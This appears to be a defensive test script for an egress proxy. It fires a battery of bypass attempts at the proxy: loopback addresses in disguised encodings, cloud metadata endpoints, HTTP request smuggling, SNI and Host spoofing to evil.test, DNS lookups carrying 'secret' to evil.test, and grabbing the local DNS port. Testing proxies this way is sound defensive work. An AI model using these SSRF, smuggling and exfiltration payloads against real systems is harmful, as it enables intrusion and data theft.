# Attacks through the ways out. PROXY is the proxy's port, GRANTED a port of api.test, which is granted and answers "granted PATH HOST"; HOST_PORT
# listens on the host's loopback and answers "victim". The names of *.test resolve outside to what they are called.
cat >/state/ask <<'END'
#!/usr/bin/perl
# ask TEXT WANTED: sends the text to the proxy; succeeds when the answer holds what is wanted.
use IO::Socket::INET;
my ($text, $wanted) = @ARGV;
$text =~ s/\\r/\r/g;
$text =~ s/\\n/\n/g;
my $proxy = IO::Socket::INET->new("127.0.0.1:$ENV{PROXY}") or exit 1;
syswrite $proxy, $text;
my $answer = '';
eval { local $SIG{ALRM} = sub { die }; alarm 3; while (sysread $proxy, my $more, 4096) { $answer .= $more; last if $answer =~ /$wanted/ } };
exit($answer =~ /$wanted/ ? 0 : 1);
END
chmod +x /state/ask
open() { name=$1; attempt "$name" /state/ask "CONNECT $2 HTTP/1.1\r\n\r\n" 'HTTP/1.1 200'; }
fetch() { name=$1; attempt "$name" /state/ask "GET http://$2/ HTTP/1.1\r\n\r\n" 'HTTP/1.1 200|victim'; }

open tunnel-loopback "127.0.0.1:$HOST_PORT"
open tunnel-localhost "localhost:$HOST_PORT"
open tunnel-loopback-6 "[::1]:$HOST_PORT"
open tunnel-any "0.0.0.0:$HOST_PORT"
open tunnel-mapped "[::ffff:127.0.0.1]:$HOST_PORT"
open tunnel-mapped-hex "[::ffff:7f00:1]:$HOST_PORT"
open tunnel-short "127.1:$HOST_PORT"
open tunnel-decimal "2130706433:$HOST_PORT"
open tunnel-hex "0x7f000001:$HOST_PORT"
open tunnel-octal "017700000001:$HOST_PORT"
open tunnel-user "api.test:$GRANTED@127.0.0.1:$HOST_PORT"
open tunnel-metadata 169.254.169.254:80
open tunnel-metadata-6 '[fd00:ec2::254]:80'
open tunnel-link-local '[fe80::1]:80'
open tunnel-multicast 224.0.0.1:80
open name-loopback "loopback.test:$HOST_PORT"
open name-private private.test:443
open name-metadata metadata.test:80
open name-carrier-nat carrier.test:443
open name-mapped "mapped.test:$HOST_PORT"
open name-nat64 "nat64.test:$HOST_PORT"
open name-own "own.test:$HOST_PORT"
open name-mixed mixed.test:443
open name-turned-private turning.test:443
open name-with-a-dot "loopback.test.:$HOST_PORT"
open other-port "api.test:$HOST_PORT"
fetch plain-loopback "127.0.0.1:$HOST_PORT"
fetch plain-metadata 169.254.169.254
fetch plain-name "loopback.test:$HOST_PORT"
attempt plain-other-host /state/ask "GET http://api.test:$GRANTED/ HTTP/1.1\r\nHost: evil.test\r\n\r\n" evil
attempt keep-alive-reuse /state/ask "GET http://api.test:$GRANTED/a HTTP/1.1\r\n\r\nGET http://api.test:$GRANTED/b HTTP/1.1\r\n\r\n" 'granted /b'
attempt two-lengths /state/ask "POST http://api.test:$GRANTED/ HTTP/1.1\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" granted
attempt hidden-in-a-body /state/ask "POST http://api.test:$GRANTED/ HTTP/1.1\r\nContent-Length: 0\r\n\r\nGET /hidden HTTP/1.1\r\n\r\n" 'granted /hidden'
attempt tunnel-without-tls /state/ask "CONNECT api.test:$GRANTED HTTP/1.1\r\n\r\nGET /tunnel HTTP/1.1\r\n\r\n" 'granted'
attempt followed-redirect sh -c 'curl -sL --max-time 4 "http://api.test:$GRANTED/redirect" | grep -q victim'
attempt other-server-name sh -c 'openssl s_client -proxy "127.0.0.1:$PROXY" -connect "api.test:$GRANTED" -servername evil.test -brief </dev/null 2>&1 | grep -q ESTABLISHED'
attempt no-server-name sh -c 'openssl s_client -proxy "127.0.0.1:$PROXY" -connect "api.test:$GRANTED" -noservername -brief </dev/null 2>&1 | grep -q ESTABLISHED'
attempt other-server-name-direct sh -c 'openssl s_client -connect "api.test:$GRANTED" -servername evil.test -brief </dev/null 2>&1 | grep -q ESTABLISHED'
attempt lookup getent ahosts secret.evil.test
attempt lookup-text perl -MIO::Socket::INET -e 'my $s = IO::Socket::INET->new(Proto => "udp", PeerAddr => "127.0.0.1:53") or exit 1; $s->send("\0\1\1\0\0\1\0\0\0\0\0\0\6secret\4evil\4test\0\0\20\0\1"); $s->recv(my $a, 512); exit(unpack("n", substr($a, 6, 2)) ? 0 : 1)'
attempt take-the-name-server perl -MSocket -e 'socket(S, AF_INET, SOCK_DGRAM, 0); setsockopt(S, SOL_SOCKET, SO_REUSEADDR, 1); setsockopt(S, SOL_SOCKET, 15, 1); exit(bind(S, pack_sockaddr_in(53, INADDR_LOOPBACK)) ? 0 : 1)'
attempt take-a-low-port perl -MSocket -e 'socket(S, AF_INET, SOCK_STREAM, 0); exit(bind(S, pack_sockaddr_in(443, INADDR_LOOPBACK)) ? 0 : 1)'
